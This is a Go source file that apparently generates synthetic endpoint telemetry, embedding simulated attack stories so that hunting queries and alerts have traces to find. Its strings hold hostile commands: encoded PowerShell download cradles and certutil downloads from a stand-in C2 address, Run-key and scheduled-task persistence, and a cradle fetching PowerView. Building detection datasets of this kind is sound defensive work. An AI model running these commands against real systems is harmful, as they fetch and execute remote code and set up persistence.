package telemetry

import (
	"encoding/base64"
	"encoding/json"
	"time"
	"unicode/utf16"
)

// Attacker infrastructure: documentation address ranges and .example domains, never real hosts.
const (
	phishDomain = "fabrikam-invoices.example"
	phishSender = "billing@" + phishDomain
	phishIP     = "198.51.100.77"
	c2IP        = "198.51.100.23"
	c2Domain    = "cdn-update.northwind-sync.example"
	oauthIP     = "198.51.100.150"
	dayNs       = int64(24 * time.Hour)
)

// storyCast names the devices and people of the attack stories.
type storyCast struct {
	victim, victim2 *device // Windows workstations
	server          *device // the file server the attacker moves to
	base            int64   // time of the malicious document opening
}

func (g *generator) cast() storyCast {
	ws := g.w.windowsWorkstations()
	if len(ws) == 0 {
		ws = g.w.devices
	}
	span := g.c.end - g.c.start
	c := storyCast{victim: ws[0], victim2: ws[len(ws)/2], server: g.w.fileSrv}
	// Three days before the end for the default window, at 10:14 in the morning; proportionally earlier (at any
	// hour) in short windows.
	c.base = g.c.end - min(3*dayNs, span*6/10)
	if morning := c.base - c.base%dayNs + int64(10*time.Hour+14*time.Minute+37*time.Second); span >= 4*dayNs && morning <= g.c.end-2*dayNs {
		c.base = morning
	}
	return c
}

// stories embeds the attacks that public hunting queries are written to find. Each story leaves the traces
// the real attack leaves, across tables, with an alert whose evidence points back at them.
func (g *generator) stories() {
	c := g.cast()
	clicked := g.phishingStory(c)
	payload := g.cradleStory(c, clicked)
	g.plainCradleStory(c)
	g.appdataFromPowerShell()
	psexesvc := g.lateralStory(c, payload)
	g.lsassStory(c, psexesvc)
	g.ransomwareStory(c.server, psexesvc, c.base+dayNs*2/3, 400, `D:\Shares`)
	g.ransomwareStory(c.victim2, nil, c.base+dayNs*3/4, 120, `C:\Users\`+c.victim2.owner.profile+`\Documents`)
	g.oauthStory(c)
	g.persistenceOnServer(c, psexesvc)
	g.bruteForce(c)
	g.backgroundAlerts()
	g.intrusions(c)
}

// encodedCommand is PowerShell's -EncodedCommand form: base64 of the UTF-16LE script.
func encodedCommand(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 0, len(u)*2)
	for _, v := range u {
		b = append(b, byte(v), byte(v>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// cradleStory: the phishing attachment opens in Word, whose macro starts cmd and an encoded PowerShell
// download cradle; the payload lands in AppData, persists and beacons.
func (g *generator) cradleStory(c storyCast, opened int64) *proc {
	d, u := c.victim, c.victim.owner
	t := opened
	explorer := g.sessionProc(d, t)
	doc := dataFile(`C:\Users\`+u.profile+`\Downloads\Invoice_4821.docm`, "phish-docm", 48_213)
	word := g.spawn(d, explorer, iWinword, `"`+d.images[iWinword].path+`" /n "`+doc.path+`" /o ""`, u, t)
	dl := newDLLs()
	g.imageLoad(d, word, t+int64(2*sec), dl.vbe7)
	script := "IEX (New-Object Net.WebClient).DownloadString('http://" + c2IP + "/a.ps1')"
	enc := encodedCommand(script)
	cmd := g.spawn(d, word, iCmd, `cmd.exe /c powershell.exe -nop -w hidden -enc `+enc, u, t+int64(9*sec))
	ps := g.spawn(d, cmd, iPowershell, `powershell.exe  -nop -w hidden -enc `+enc, u, t+int64(10*sec))
	g.imageLoad(d, ps, t+int64(11*sec), dl.amsi)
	g.devEvent(d, ps, t+int64(12*sec), "PowerShellCommand", func(r *row) { r.additional = `{"Command":"IEX"}` })
	g.devEvent(d, ps, t+int64(12*sec), "AmsiScriptContent", func(r *row) {
		r.additional = `{"ScriptContent":"` + jsonEscape(script) + `"}`
	})
	g.connect(d, ps, t+int64(13*sec), "ConnectionSuccess", c2IP, "http://"+c2IP+"/a.ps1", 80)
	payloadFile := d.images[iPayload]
	g.fileEvent(d, ps, t+int64(15*sec), "FileCreated", payloadFile, func(r *row) {
		r.originURL, r.originIP = "http://"+c2IP+"/OneDriveUpdater.exe", c2IP
	})
	payload := g.spawn(d, ps, iPayload, `"`+payloadFile.path+`" /silent /update`, u, t+int64(20*sec))
	g.regEvent(d, payload, t+int64(25*sec), "RegistryValueSet", regInfo{key: `HKEY_CURRENT_USER\` + u.sid + `\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, valueName: "OneDriveUpdate", valueData: `"` + payloadFile.path + `" /silent`, valueType: "String"})
	st := g.spawn(d, payload, iSchtasks, `schtasks.exe /create /sc onlogon /tn "OneDrive Update" /tr "`+payloadFile.path+` /silent" /f`, u, t+int64(30*sec))
	g.devEvent(d, st, t+int64(31*sec), "ScheduledTaskCreated", func(r *row) {
		r.additional = `{"TaskName":"\\OneDrive Update","TaskContent":"` + jsonEscape(payloadFile.path) + ` /silent"}`
	})
	for i := int64(0); i < 36; i++ {
		g.connect(d, payload, t+int64(time.Minute)+i*int64(10*time.Minute)+g.activity.Int64N(int64(time.Minute)), "ConnectionSuccess", c2IP, c2Domain, 443)
	}
	rc := g.spawn(d, payload, iCmd, `cmd.exe /c "whoami /all & net group "Domain Admins" /domain & nltest /dclist:contoso.example"`, u, t+int64(5*time.Minute))
	g.spawn(d, rc, iWhoami, `whoami  /all`, u, t+int64(5*time.Minute+sec))
	g.spawn(d, rc, iNet, `net  group "Domain Admins" /domain`, u, t+int64(5*time.Minute+2*sec))
	g.spawn(d, rc, iNltest, `nltest  /dclist:contoso.example`, u, t+int64(5*time.Minute+3*sec))
	g.devEvent(d, word, t+int64(9*sec), "AsrOfficeChildProcessAudited", func(r *row) {
		r.file, r.proc = cmd.img, cmd
		r.additional = `{"IsAudit":true,"RuleId":"d4f940ab-401b-4efc-aadc-ad5f3c50688a"}`
	})
	cu := g.spawn(d, toolShell(g, d, payload, u, t), iCertutil, `certutil.exe -urlcache -split -f http://`+c2IP+`/tools.txt C:\Users\Public\tools.txt`, u, t+int64(4*time.Minute))
	g.connect(d, cu, t+int64(4*time.Minute+sec), "ConnectionSuccess", c2IP, "http://"+c2IP+"/tools.txt", 80)
	g.raise(t+int64(15*sec), srcMDE, "EDR", "Suspicious PowerShell download cradle", "Execution", "High",
		[]string{"PowerShell (T1059.001)", "Obfuscated Files or Information (T1027)", "Ingress Tool Transfer (T1105)"},
		evidence{entityType: "Machine", role: "Impacted", dev: d},
		evidence{entityType: "User", role: "Impacted", dev: d, acct: u},
		evidence{entityType: "Process", role: "Related", dev: d, proc: ps, file: ps.img},
		evidence{entityType: "Process", role: "Related", dev: d, proc: word, file: word.img},
		evidence{entityType: "File", role: "Impacted", dev: d, file: payloadFile},
		evidence{entityType: "Ip", role: "Related", dev: d, remoteIP: c2IP},
	)
	g.raise(t+int64(30*sec), srcMDE, "EDR", "Suspicious process launched from an Office application", "InitialAccess", "Medium",
		[]string{"Spearphishing Attachment (T1566.001)", "User Execution (T1204)"},
		evidence{entityType: "Machine", role: "Impacted", dev: d},
		evidence{entityType: "Process", role: "Related", dev: d, proc: cmd, file: cmd.img},
		evidence{entityType: "File", role: "Related", dev: d, file: doc},
	)
	return payload
}

// plainCradleStory: an admin pastes a readable IEX cradle that fetches PowerView, on another workstation.
func (g *generator) plainCradleStory(c storyCast) {
	d := c.victim2
	t := c.base - 6*dayNs/2
	u := g.w.helpdesk
	explorer := g.sessionProc(d, t)
	ps := g.spawn(d, explorer, iPowershell, `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -ExecutionPolicy Bypass -NoProfile -Command "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Recon/PowerView.ps1'); Get-DomainUser -SPN"`, u, t)
	g.connect(d, ps, t+int64(2*sec), "ConnectionSuccess", "185.199.108.133", "raw.githubusercontent.com", 443)
	g.devEvent(d, ps, t+int64(4*sec), "PowerShellCommand", func(r *row) { r.additional = `{"Command":"Get-DomainUser"}` })
	g.raise(t+int64(5*sec), srcMDE, "EDR", "Suspicious PowerShell command line", "Execution", "Medium",
		[]string{"PowerShell (T1059.001)", "Account Discovery (T1087)"},
		evidence{entityType: "Machine", role: "Impacted", dev: d},
		evidence{entityType: "Process", role: "Related", dev: d, proc: ps, file: ps.img},
		evidence{entityType: "Url", role: "Related", dev: d, remoteURL: "https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Recon/PowerView.ps1"},
	)
}

// appdataFromPowerShell: the benign cousin hunting has to tell apart, a logon script that restarts the
// Teams updater from AppData through PowerShell on several workstations.
func (g *generator) appdataFromPowerShell() {
	ws := g.w.windowsWorkstations()
	for i := 0; i < len(ws) && i < 6; i++ {
		d := ws[(i*7+3)%len(ws)]
		for day := g.c.numDays() - 1; day >= 0 && day > g.c.numDays()-8; day -= 2 {
			t := g.c.day(day).UnixNano() + int64(8*time.Hour+40*time.Minute) + int64(i)*int64(time.Minute)
			if !g.inWindow(t) {
				continue
			}
			explorer := g.sessionProc(d, t)
			ps := g.spawn(d, explorer, iPowershell, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File \\contoso.example\NETLOGON\teams-restart.ps1`, d.owner, t)
			upd := d.images[iTeamsUpdate]
			g.spawn(d, ps, iTeamsUpdate, `"`+upd.path+`" --processStart "Teams.exe" --process-start-args "--system-initiated"`, d.owner, t+int64(3*sec))
		}
	}
}

// sessionProc returns an explorer.exe to parent story processes, reusing the device's session when there is
// one.
func (g *generator) sessionProc(d *device, t int64) *proc {
	if d.sessionOf != nil && d.sessionOf.created < t {
		return d.sessionOf
	}
	p := g.newProc(d, d.winlogon, iExplorer, `C:\Windows\Explorer.EXE`, d.owner, t-int64(2*time.Hour))
	p.logonID, p.sessionID = d.logonIDs, 1
	return p
}

// jsonEscape returns s escaped for use inside a JSON string literal.
func jsonEscape(s string) string {
	b, _ := json.Marshal(s) // a string always marshals
	return string(b[1 : len(b)-1])
}

// toolShell is the payload's first command shell, which runs the attacker's tooling.
func toolShell(g *generator, d *device, payload *proc, u *account, t int64) *proc {
	return g.spawn(d, payload, iCmd, `cmd.exe /c "certutil.exe -urlcache -split -f http://`+c2IP+`/tools.txt C:\Users\Public\tools.txt"`, u, t+int64(4*time.Minute-sec))
}
